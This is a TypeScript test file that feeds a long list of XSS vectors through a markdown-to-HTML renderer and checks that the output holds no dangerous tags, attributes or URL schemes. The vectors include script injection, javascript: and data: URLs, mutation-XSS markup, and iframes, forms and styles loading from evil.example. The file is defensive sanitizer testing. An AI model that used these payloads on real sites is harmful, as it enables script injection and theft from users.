// What is written with bad intent in anyone's notes neither runs nor loads nor takes the place of what is ours.
import { toHtml } from 'hast-util-to-html';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { createFindings } from '../problems.ts';
import { split } from '../split/split.ts';
import { treesOf } from '../split/trees-of.ts';
import type { Element, Root } from '../types.ts';
import { read } from './read.ts';

const vectors: Readonly<Record<string, readonly string[]>> = {
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<img src=x ONERROR = "alert(1)">',
    '<img/src=x/onerror=alert(1)>',
    '<a href=# onclick=alert(1)>x</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<div onmouseover="alert(1)" onfocus=alert(1) tabindex=0 autofocus>x</div>',
    '<svg onload=alert(1)>',
    '<video onloadstart=alert(1) src=x></video>',
    '<p onanimationstart=alert(1)>x</p>',
    '<h2 onclick=alert(1)>Heading</h2>',
    '<input onfocus=alert(1) autofocus>',
    '<marquee onstart=alert(1)>x</marquee>',
  ],
  scripts: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script\n>alert(1)</script\n>',
    '<script/x>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><script>alert(1)</script></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
    '<!--<img src="--><img src=x onerror=alert(1)>">',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml <script>alert(1)</script>?>',
    '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>',
    '<template><script>alert(1)</script></template>',
    '<textarea></textarea><script>alert(1)</script>',
    '<xmp><script>alert(1)</script></xmp>',
    '<plaintext><script>alert(1)</script>',
    '<title><script>alert(1)</script></title>',
    '`<script>`alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ],
  'addresses that run': [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](<java&#x0A;script:alert(1)>)',
    '[x](&#x6A;avascript:alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x](<  javascript:alert(1)>)',
    '[x](javascript&colon;alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](blob:https://x/y)',
    '[x](file:///etc/passwd)',
    '[x](view-source:https://x)',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href=javascript:alert(1)//x>x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
    '![x](javascript:alert(1))',
    '<img longdesc="javascript:alert(1)" src=x>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="https://x" ping="https://evil.example">x</a>',
    '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
    '## [Heading](javascript:alert(1))',
  ],
  'what loads, frames or submits': [
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code=x></applet>',
    '<form action="https://evil.example"><input name=q type=password><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<video src="https://evil.example/x.mp4"></video>',
    '<audio src="https://evil.example/x.mp3"></audio>',
    '<frameset><frame src="https://evil.example"></frameset>',
    '<portal src="https://evil.example"></portal>',
    '<dialog open>x</dialog>',
    '<select><option>x</option></select>',
    '<svg><use href="https://evil.example/x.svg#y"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<custom-element is="x">x</custom-element>',
    '<slot name=x>x</slot>',
  ],
  styles: [
    '<style>@import "https://evil.example/x.css"</style>',
    '<p style="background:url(https://evil.example)">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<td style="text-align:center;background:url(x)">x</td>',
    '<p class="u-search alert warning">x</p>',
    '<font style="x">x</font>',
  ],
  'names of ours': [
    '<a id="u-search">x</a>',
    '<a name="u-main">x</a>',
    '## <a id="u-main"></a>x',
    '<form id="document"><input name="body"></form>',
    '<img name="getElementById" src=x>',
    '<a name="__proto__">x</a>',
    '<a data-service="s3" data-home href="#x">x</a>',
    '<p data-added data-copy="x" data-result data-search-state="done">x</p>',
    '<section data-footnotes><ol><li id="user-content-fn-1">x</li></ol></section>',
    '<p contenteditable spellcheck draggable=true hidden inert popover role=dialog aria-live=assertive>x</p>',
    '<p accesskey=s tabindex=5 autofocus>x</p>',
  ],
  'broken markup': [
    '<img src="x" "onerror=alert(1)">',
    '<img """><script>alert(1)</script>">',
    '<a href="x"<script>alert(1)</script>">x</a>',
    '<div><p><b></div><script>alert(1)</script>',
    '<table><script>alert(1)</script><tr><td><img src=x onerror=alert(1)></table>',
    '<p title="\n\n<img src=x onerror=alert(1)>\n\n">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<a href="[x](javascript:alert(1))">[x](<javascript:alert(1)>)</a>',
    '![<img src=x onerror=alert(1)>](x)',
    '[<img src=x onerror=alert(1)>](x "<img src=x onerror=alert(1)>")',
    '```<script>\nalert(1)\n```',
    '``` "onload=alert(1)\nx\n```',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  ],
};

const elements = new Set(
  'a abbr aside b blockquote br caption cite code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr'.split(
    ' ',
  ),
);
const unwanted =
  /^(on.*|style|accesskey|tabindex|action|formaction|method|name|ping|background|autofocus|contenteditable|hidden|inert|popover|role|is|slot|srcdoc|data-(?!footnote).*|.*:.*)$/;

describe('hostile notes', () => {
  for (const [kind, list] of Object.entries(vectors))
    for (const vector of list)
      it(`are harmless: ${kind}: ${vector}`, () => {
        for (const text of [vector, `# Title\n\n## Section\n\nA word ${vector} and more.\n\n## Next\n`])
          expect(problemsOf(finish(text)), text).toEqual([]);
      });

  it('keep links to the web, to mail and to telephones', () => {
    const html = finish(
      '[a](https://x.example) [b](mailto:x@x.example) [c](tel:+1555) [d](#title) [e](other.md) [f](//x.example)',
    );
    expect(html.match(/href="[^"]*"/g)).toEqual([
      'href="https://x.example"',
      'href="mailto:x@x.example"',
      'href="tel:+1555"',
      'href="#title"',
      'href="other.md"',
      'href="//x.example"',
    ]);
  });
});

/** TEXT as the HTML of its pages. */
function finish(text: string): string {
  const findings = createFindings();
  const bytes = new TextEncoder().encode(text);
  const document = read({ file: 'notes.md', path: '/course/notes.md', bytes }, { tidy: true }, findings);
  const { pages } = split(document ? [document] : [], { drafts: false, lang: 'en' }, findings);
  return pages
    .flatMap(treesOf)
    .map((tree) => toHtml(tree))
    .join('\n');
}

/** What a browser would find in HTML, parsed anew, that must not be there. */
function problemsOf(html: string): string[] {
  const problems: string[] = [];
  visit(fromHtml(html, { fragment: true }) as Root, 'element', (node: Element) => {
    if (!elements.has(node.tagName)) problems.push(`<${node.tagName}>`);
    if (node.tagName === 'input' && node.properties['type'] !== 'checkbox') problems.push('an input');
    for (const [property, value] of Object.entries(node.properties)) {
      const name = property
        .replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)
        .replace(/^data-footnote.*/, 'data-footnote');
      const isOurs = name === 'data-added' && 'dataFootnoteBackref' in node.properties;
      if (unwanted.test(name) && !isOurs) problems.push(`${node.tagName} ${name}`);
      if (name === 'id' && /^u-(?!fn)/.test(String(value))) problems.push(`id ${String(value)}`);
      if (name === 'class-name' && /u-search/.test(String(value))) problems.push(`class ${String(value)}`);
      if (/^(href|src|cite|long-desc)$/.test(name) && !isPlainAddress(String(value), property))
        problems.push(`${name} ${String(value)}`);
    }
  });
  return problems;
}

function isPlainAddress(address: string, property: string): boolean {
  const { protocol } = new URL(address, 'https://here.example/');
  return property === 'href' ? /^(https?|mailto|tel):$/.test(protocol) : /^https?:$/.test(protocol);
}
